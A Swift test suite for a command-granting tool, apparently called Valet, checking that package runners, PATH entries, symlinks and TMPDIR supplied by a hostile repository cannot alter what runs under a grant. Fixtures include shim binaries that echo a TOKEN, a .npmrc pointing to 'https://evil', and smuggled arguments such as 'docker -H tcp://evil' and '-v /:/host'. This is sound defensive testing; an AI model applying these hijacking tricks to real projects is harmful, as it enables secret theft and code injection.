internal import Platform
internal import Testing
internal import ValetTesting

/// What a cloned repository, or somebody else's folder, tries to get between a grant and what runs.
@Suite struct HostileProjectTests {
  private static let start = ["demo", "--env", "TOKEN=valet://a", "--"]
  private static let runners = [
    "npm exec -y a", "npm x a", "pnpx a", "pnpm dlx a", "yarn dlx a", "bun x a", "uv tool run a",
    "docker run -i a", "docker container run a", "podman run a", "deno run -A npm:a", "npx -y a",
    "uvx a", "bunx a", "pipx run a", "python3.11 -m a",
  ]

  /// A home with a repository in it, and programs of every runner's name that say where they are.
  private func home() throws -> Home {
    let home = try GrantTests.home()
    let names = Set(Self.runners.map { String($0.split(separator: " ")[0]) })
    let made = try home.shell(
      """
      mkdir -p good repo/.git repo/bin repo/sub
      for name in \(names.sorted().joined(separator: " ")); do
        printf '#!/bin/sh\\necho "in $PWD with $(ls -A | wc -l)"\\n' >good/$name
        printf '#!/bin/sh\\necho EVIL $TOKEN\\n' >repo/bin/$name
      done
      echo registry=https://evil >repo/.npmrc
      chmod -R go-w . && chmod 755 good/* repo/bin/*
      """)
    try #require(made.exitCode == 0, "\(made.errorText)")
    return home
  }

  private func path(_ home: borrowing Home, before: String = "") -> [String: String] {
    ["PATH": "\(before)\(home.path)/good:/usr/bin:/bin"]
  }

  @Test(arguments: runners) func everyPackageRunnerStartsInAnEmptyFolder(words: String) throws {
    let home = try home()
    let words = Self.start + words.split(separator: " ").map(String.init)
    try GrantTests.allow(home, words, adding: path(home))
    let run = try GrantTests.run(
      home, words, adding: path(home), folder: "\(home.path)/repo")
    #expect(run.text == "in \(home.valetHome)/run/empty with 0\n", "\(run.text)\(run.errorText)")
  }

  @Test(arguments: [
    ("npx -y a", "npx --registry=https://evil -y a", "argument 1 is --registry=https://evil"),
    ("npx -y a", "npm exec -y a", "the command is npm exec along PATH and not npx along PATH"),
    ("npx -y a@1.0.0", "npx -y a@1.0.1", "argument 2 is a@1.0.1 and not a@1.0.0"),
    ("uvx a", "uvx --index-url https://evil a", "argument 1 is --index-url"),
    ("uv tool run a", "uv --directory /evil tool run a", "argument 1 is --directory"),
    ("docker run -i a", "docker -H tcp://evil run -i a", "argument 1 is -H"),
    ("docker run -i a", "docker run -v /:/host -i a", "argument 2 is -v"),
    ("python3.11 -m a", "python3.11 -m b", "argument 2 is b and not a"),
    ("deno run npm:a", "deno run npm:b", "argument 2 is npm:b and not npm:a"),
  ])
  func whatARunnerIsToldIsPartOfTheGrant(granted: String, wanted: String, names: String) throws {
    let home = try home()
    let split = { (words: String) in Self.start + words.split(separator: " ").map(String.init) }
    try GrantTests.allow(home, split(granted), adding: path(home))
    GrantTests.expectRefusal(
      try GrantTests.run(home, split(wanted), adding: path(home)), names)
  }

  /// A host's configuration chooses both where a server starts and its `PATH`.
  @Test(arguments: ["", "repo", "repo/sub"])
  func noProgramComesFromAWorkingCopy(folder: String) throws {
    let home = try home()
    let words = Self.start + ["npx", "-y", "a"]
    try GrantTests.allow(home, words, adding: path(home))
    let hostile = path(home, before: "\(home.path)/repo/bin:/proc/self/cwd/bin:bin::")
    let run = try GrantTests.run(
      home, words, adding: hostile, folder: "\(home.path)/\(folder)")
    #expect(run.text.hasPrefix("in "), "\(run.text)\(run.errorText)")
    #expect(run.errorText.contains("not on the server's PATH"))
    #expect(run.errorText.contains("\(home.path)/repo/bin"), "\(run.errorText)")
    // A version manager is a clone as well.
    let managed = try home.shell("mkdir -p .nvm/.git && mv good .nvm/bin")
    try #require(managed.exitCode == 0)
    let paths = ["PATH": "\(home.path)/.nvm/bin:/usr/bin:/bin"]
    try GrantTests.allow(home, words, adding: paths)
    let own = try GrantTests.run(home, words, adding: paths)
    #expect(own.text.hasPrefix("in "), "\(own.text)\(own.errorText)")
  }

  @Test(arguments: [
    ("repo", false), ("open", false), ("relative/./../open", false), ("missing", false),
    ("link", false), ("sticky", true), ("good", true),
  ])
  func theServersTMPDIRHasNothingOfOthers(name: String, isPassed: Bool) throws {
    let home = try home()
    let made = try home.shell(
      "mkdir open sticky relative && chmod 777 open && chmod 1777 sticky && ln -s repo link")
    try #require(made.exitCode == 0)
    try GrantTests.allow(home, GrantTests.words)
    let folder = "\(home.path)/\(name)"
    let run = try GrantTests.run(home, GrantTests.words, adding: ["TMPDIR": folder])
    #expect(run.exitCode == 0, "\(run.errorText)")
    #expect(run.text.contains("TMPDIR=\(folder)\n") == isPassed, "\(run.text)")
    let relative = try GrantTests.run(home, GrantTests.words, adding: ["TMPDIR": "repo"])
    #expect(relative.exitCode == 0 && !relative.text.contains("TMPDIR"), "\(relative.text)")
  }

  /// The name that was allowed leads to something else by now.
  @Test func aLinkLeadsOnlyToWhatNobodyElseCanChange() throws {
    let home = try home()
    let made = try home.shell(
      """
      mkdir open v1 && chmod 777 open && umask 022
      for folder in v1 open; do
        printf '#!/bin/sh\\necho %s\\n' $folder >$folder/server; chmod 755 $folder/server
      done
      ln -s v1/server server; ln -s v1 folder
      """)
    try #require(made.exitCode == 0)
    let words = Self.start + ["\(home.path)/server"]
    let through = Self.start + ["\(home.path)/folder/server"]
    try GrantTests.allow(home, words)
    try GrantTests.allow(home, ["other"] + through.dropFirst())
    #expect(try GrantTests.run(home, words).text == "v1\n")
    #expect(try GrantTests.run(home, ["other"] + through.dropFirst()).text == "v1\n")
    let changed = try home.shell("ln -sf open/server server; ln -sfn open folder")
    try #require(changed.exitCode == 0)
    GrantTests.expectRefusal(
      try GrantTests.run(home, words), "/open can be changed by others")
    GrantTests.expectRefusal(
      try GrantTests.run(home, ["other"] + through.dropFirst()), "can be changed by others")
  }

  /// Somebody else's link leads to the right program while it is looked at.
  @Test(.enabled(if: geteuid() == 0, "giving a link away takes root"))
  func nothingIsRunByWayOfSomebodyElsesFolder() throws {
    let home = try home()
    let made = try home.shell("mkdir theirs && ln -s ../good theirs/bin")
    try #require(made.exitCode == 0)
    let words = Self.start + ["\(home.path)/theirs/bin/npx"]
    try GrantTests.allow(home, words)
    #expect(try GrantTests.run(home, words).exitCode == 0)
    #expect(lchown("\(home.path)/theirs/bin", 65_534, 65_534) == 0)
    GrantTests.expectRefusal(try GrantTests.run(home, words), "belongs to neither you nor root")
    #expect(lchown("\(home.path)/theirs/bin", 0, 0) == 0)
    #expect(chown("\(home.path)/theirs", 65_534, 65_534) == 0)
    GrantTests.expectRefusal(try GrantTests.run(home, words), "belongs to neither you nor root")
  }

  /// Found along `PATH`, which a host's configuration chooses too.
  @Test func aProgramOfTheSameNameElsewhereIsAnother() throws {
    let home = try home()
    let made = try home.shell(
      """
      mkdir one two && for folder in one two; do
        printf '#!/bin/sh\\necho %s\\n' $folder >$folder/server; chmod -R 755 $folder
      done
      """)
    try #require(made.exitCode == 0)
    let words = Self.start + ["server"]
    let along = { (home: borrowing Home, folder: String) in
      ["PATH": "\(home.path)/\(folder):/usr/bin:/bin"]
    }
    try GrantTests.allow(home, words, adding: along(home, "one"))
    #expect(try GrantTests.run(home, words, adding: along(home, "one")).text == "one\n")
    GrantTests.expectRefusal(
      try GrantTests.run(home, words, adding: along(home, "two")),
      "the command is \(home.path)/two/server and not \(home.path)/one/server")
  }

  /// A link that was pinned with its content.
  @Test func aPinnedLinkThatLeadsElsewhereIsRefused() throws {
    let home = try home()
    let made = try home.shell(
      """
      umask 022; printf '#!/bin/sh\\necho one\\n' >one; printf '#!/bin/sh\\necho two\\n' >two
      chmod 755 one two; ln -s one server
      """)
    try #require(made.exitCode == 0)
    let words = Self.start + ["\(home.path)/server"]
    try GrantTests.allow(home, ["--pin", "content"] + words)
    #expect(try GrantTests.run(home, words).text == "one\n")
    _ = try home.shell("ln -sf two server")
    GrantTests.expectRefusal(
      try GrantTests.run(home, words), "server is not the one that was pinned")
  }
}
